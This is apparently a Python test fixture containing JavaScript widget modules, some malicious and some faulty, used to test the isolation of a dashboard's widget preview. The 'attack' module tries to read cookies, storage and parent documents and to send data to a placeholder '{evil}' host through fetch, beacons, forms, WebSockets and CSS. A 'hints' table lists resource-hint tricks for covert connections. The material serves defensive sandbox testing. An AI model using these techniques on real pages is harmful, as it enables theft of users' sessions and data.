"""Modules of malicious and faulty widgets, for the tests of the preview."""

# Tries whatever a script could do to others, and shows the results.
ATTACK = """
const EVIL = "{evil}";
const once = (target, good, bad) => new Promise((done) => {
  target["on" + good] = () => done(good);
  target["on" + bad] = () => done("refused");
});
const TRIES = {
  cookie: () => document.cookie,
  localStorage: () => localStorage.length,
  sessionStorage: () => sessionStorage.length,
  indexedDB: () => once(indexedDB.open("x"), "success", "error"),
  caches: () => caches.keys(),
  parentDocument: () => parent.document.title,
  topDocument: () => top.document.cookie,
  frameElement: () => frameElement.id,
  fetch: () => fetch(EVIL + "/fetch"),
  sessionApi: () => fetch("/api/auth/session", { credentials: "include" }),
  publicApi: () => fetch("/api/v1/widgets/search"),
  xhr: () => {
    const request = new XMLHttpRequest();
    request.open("GET", EVIL, false);
    request.send();
    return request.status;
  },
  webSocket: () => once(new WebSocket(EVIL.replace("http", "ws")), "open", "error"),
  eventSource: () => once(new EventSource(EVIL + "/events"), "open", "error"),
  image: () => once(Object.assign(new Image(), { src: EVIL + "/image" }), "load", "error"),
  script: () => import(EVIL + "/module.js"),
  ownScript: () => import(new URL("panel.js", location.href).href),
  worker: () => {
    const url = URL.createObjectURL(new Blob(["postMessage(1)"]));
    return once(new Worker(url), "message", "error");
  },
  eval: () => (0, eval)("1"),
  popup: () => { if (open(EVIL + "/popup") !== null) return "opened"; throw new Error(); },
  topNavigation: () => { top.location = EVIL + "/top"; },
  webrtc: () => new RTCPeerConnection(),
  shadowFromMarkup: () => document.body.setHTMLUnsafe(
    `<div><template shadowrootmode=closed><iframe src=${EVIL}></iframe></template></div>`),
};
export async function mount(element) {
  navigator.sendBeacon(EVIL + "/beacon", "x");
  for (const rel of ["stylesheet", "icon", "manifest"]) {
    document.head.append(
      Object.assign(document.createElement("link"), { rel, href: EVIL + "/" + rel }));
  }
  const form = document.createElement("form");
  Object.assign(form, { action: EVIL + "/form", method: "post" });
  element.append(form);
  form.submit();
  const style = document.createElement("style");
  style.textContent = `@import "${EVIL}/import.css"; body { background: url(${EVIL}/background) }`;
  document.head.append(style);
  alert("stop"); print();
  const seen = {};
  for (const [name, attempt] of Object.entries(TRIES)) {
    try { seen[name] = String(await attempt()); } catch (fault) { seen[name] = "refused"; }
  }
  const shown = document.createElement("pre");
  shown.textContent = JSON.stringify(seen);
  element.append(shown);
}
"""

MODULES = {
    "attack": ATTACK,
    "endless": "export function mount() { setTimeout(() => { for (;;); }, 200); }",
    "endless-import": "for (;;); export function mount() {}",
    "flood": """export function mount() {
      setInterval(() => { for (let i = 0; i < 200; i++) parent.postMessage(i, "*"); }, 10); }""",
    # Every way to the port to the page, or to send it something huge.
    "port": """
      const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, "data");
      const found = new Set();
      Object.defineProperty(MessageEvent.prototype, "data", { get() {
        found.add("getter");
        return data.get.call(this);
      } });
      const huge = Array.from({ length: 1e5 }, (_, i) => ({ i }));
      export function mount(element, context) {
        try { context.storage.set(huge, 1); } catch { /* Too large. */ }
        JSON.stringify = String.prototype.slice = () => huge;
        globalThis.String = () => huge;
        setInterval(() => context.storage.set("text", 1), 50);
        setTimeout(() => { throw new Error("Later."); }, 50);
        const look = () => {
          if (globalThis.event) found.add("event");
          element.textContent = `found: ${[...found].join()}`;
        };
        setInterval(look, 1_500);
        return { update: look };
      }""",
    "late": """await new Promise((go) => setTimeout(go, 2_000));
      const show = (config) => { place.textContent = JSON.stringify(config); };
      export function mount() { return { update: show }; }""",
    "broken": "export function mount( {",
    "foreign": "export default class Widget {}",
    "throws": "export function mount() { throw new Error('<b>No</b> place to draw.'); }",
    "fails-later": """export function mount() {
      setTimeout(() => { throw new Error("Later."); }, 50); }""",
    "settings": """export function mount(element, context) {
      const show = (config) => { element.textContent = JSON.stringify(config); };
      show(context.config);
      return { update: show, unmount() {} }; }""",
    "form": """export function mount(element) {
      const form = document.createElement("form");
      form.append(document.createElement("input"), document.createElement("button"));
      form.lastChild.textContent = "Send";
      form.action = "{evil}/form";
      form.onsubmit = ({ submitter }) => element.append(submitter.textContent + "!");
      element.append(form); }""",
    "offers": """export function mount(element, context) {
      element.textContent = Object.keys(context).sort().join(" "); }""",
}

CALM = {
    "endless": "The widget stopped answering, so it was ended.",
    "endless-import": "The widget stopped answering, so it was ended.",
    "flood": "The widget sent too many messages, so it was ended.",
    "broken": "The widget's module could not be loaded. It says: Unexpected end of input",
    "foreign": "This module is made for another kind of dashboard: it does not export mount().",
    "throws": "The widget could not start. It says: <b>No</b> place to draw.",
}

# Every way to let the browser connect without a request of the widget.
HINTS = {
    **{
        rel: f"place.append(make('link', {{ rel: '{rel}', href: EVIL, as: 'image' }}))"
        for rel in (
            *("preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "prerender"),
        )
    },
    "upper-case": "place.append(make('link', { rel: 'PreConnect', href: EVIL }))",
    "html": "place.innerHTML = `<p><link rel=preconnect href=${EVIL}></p>`",
    "in-head": "document.head.append(make('link', { rel: 'icon preconnect', href: EVIL }))",
    "removed": "const it = make('link', { rel: 'preconnect', href: EVIL }); "
    "place.append(it); it.remove()",
    "later": "const it = make('link', { href: EVIL }); place.append(it); "
    "setTimeout(() => it.relList.add('preconnect'), 50)",
    "for-a-moment": "const it = make('link', { href: EVIL }); place.append(it); "
    "it.rel = 'preconnect'; it.removeAttribute('rel')",
    "shadow": "place.appendChild(make('div')).attachShadow({ mode: 'closed' })"
    ".append(make('link', { rel: 'preconnect', href: EVIL }))",
    "patched": "Array.prototype[Symbol.iterator] = function* () {}; "
    "Element.prototype.matches = () => false; "
    ""
    "const host = place.appendChild(make('div')).attachShadow({ mode: 'open' }); "
    "const it = make('link', { href: EVIL }); host.append(it); it.rel = 'preconnect'",
}
HINT = """
const make = (tag, more) => Object.assign(document.createElement(tag), more);
const EVIL = "{evil}/secret";
export function mount(place) { %s; }
"""
